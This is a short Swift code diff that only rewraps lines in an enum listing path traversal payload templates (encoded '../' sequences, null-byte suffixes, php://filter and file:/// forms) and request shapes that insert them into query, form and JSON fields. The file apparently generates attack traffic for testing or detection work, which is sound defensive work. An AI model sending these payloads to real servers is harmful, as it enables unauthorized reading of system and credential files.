@@ -3,7 +3,8 @@ enum PathTraversal {
     static let payloads = Template.list(
         "../../../../{file}", "..\\..\\..\\..\\{file}", "....//....//....//{file}",
         "..%2f..%2f..%2f{file}", "%2e%2e/%2e%2e/%2e%2e/{file}", "..%252f..%252f..%252f{file}",
-        "..%c0%af..%c0%af{file}", "/{file}", "../../../../../../{file}%00", "../../../{file}%00.jpg",
+        "..%c0%af..%c0%af{file}", "/{file}", "../../../../../../{file}%00",
+        "../../../{file}%00.jpg",
         "file:///{file}", "..;/..;/..;/{file}", "./../../../{file}", "/var/www/../../{file}",
         "php://filter/convert.base64-encode/resource={file}", "..%5c..%5c..%5c{file}",
         "/%5c../%5c../%5c../{file}", "{slug}/../../../../{file}", "..././..././..././{file}",
@@ -19,6 +20,7 @@ enum PathTraversal {
         RequestShape("GET", "/", query: "page={payload}", weight: 2),
         RequestShape("GET", "/help/shipping", query: "template={payload}&city={city}"),
         RequestShape("POST", "/account/avatar", form: "path={payload}&csrf={token}"),
-        RequestShape("POST", "/api/v1/export", json: #"{"template":"{payload}","orders":[{number}]}"#),
+        RequestShape(
+            "POST", "/api/v1/export", json: #"{"template":"{payload}","orders":[{number}]}"#),
     ]
 }
